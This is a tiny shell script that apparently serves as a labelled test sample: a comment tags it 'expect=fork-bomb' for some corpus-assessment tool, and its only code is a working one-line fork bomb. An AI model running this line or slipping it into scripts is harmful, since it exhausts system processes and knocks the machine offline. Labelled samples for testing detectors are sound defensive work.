#!/bin/sh
#! assess-corpus: expect=fork-bomb
bomb() { bomb | bomb & }; bomb
